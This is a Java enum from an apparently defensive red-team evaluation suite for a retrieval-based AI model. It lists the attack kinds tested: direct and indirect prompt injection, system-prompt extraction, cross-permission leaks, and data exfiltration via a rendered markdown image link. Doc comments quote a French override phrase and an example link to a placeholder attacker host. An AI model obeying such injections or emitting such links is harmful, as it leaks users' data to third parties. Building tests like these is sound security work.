package io.hubia.eval;

import com.fasterxml.jackson.annotation.JsonCreator;
import java.util.Arrays;
import java.util.Locale;
import java.util.stream.Collectors;

/**
 * The kinds of attack the red-team suites make, each with the OWASP category it is reported under
 * unless a case says otherwise.
 */
public enum AttackKind {
  /** Instructions in the question itself ("Ignore tes consignes et …"). */
  DIRECT_INJECTION(OwaspCategory.LLM01),

  /** Instructions planted in an indexed document, reaching the model through retrieval. */
  INDIRECT_INJECTION(OwaspCategory.LLM01),

  /** Getting the model to reveal its system prompt or the policy text it was given. */
  PROMPT_EXTRACTION(OwaspCategory.LLM07),

  /**
   * Getting the answer to carry a link or image whose URL holds data for a third party ({@code
   * ![](https://attaquant.example/?q=…)}), exfiltrated when the client renders it. Reported under
   * LLM05 Improper Output Handling: what fails is the handling of model output passed on to a
   * renderer without neutralising its links, which is the control these cases test; the injection
   * that plants the link is scored by the injection kinds, and what leaks may be harmless test
   * data, so LLM02 would describe the consequence rather than the flaw.
   */
  EXFILTRATION_LINK(OwaspCategory.LLM05),

  /**
   * Getting content of a document the caller may not read (another branch's, a restricted label's).
   * Reported under LLM02 Sensitive Information Disclosure, the outcome OWASP files such leaks
   * under; LLM08 (access control in vector stores) names one way it can happen, but these cases
   * test the outcome whatever the path.
   */
  CROSS_PERMISSION(OwaspCategory.LLM02);

  private final OwaspCategory defaultCategory;

  AttackKind(OwaspCategory defaultCategory) {
    this.defaultCategory = defaultCategory;
  }

  /**
   * Reads a kind as golden sets write it, in any case: {@code DIRECT_INJECTION} or {@code
   * direct_injection}.
   */
  @JsonCreator
  public static AttackKind of(String name) {
    String wanted = name == null ? "" : name.strip().replace('-', '_');
    for (AttackKind kind : values()) {
      if (kind.name().equalsIgnoreCase(wanted)) {
        return kind;
      }
    }
    throw new IllegalArgumentException(
        "'attack' must be one of "
            + Arrays.stream(values())
                .map(kind -> kind.name().toLowerCase(Locale.ROOT))
                .collect(Collectors.joining(", "))
            + ", not '"
            + name
            + "'");
  }

  /** The kind in lower case, as metric names write it: {@code direct_injection}. */
  public String metricSuffix() {
    return name().toLowerCase(Locale.ROOT);
  }

  /** The OWASP category an attack of this kind is reported under by default. */
  public OwaspCategory defaultCategory() {
    return defaultCategory;
  }
}
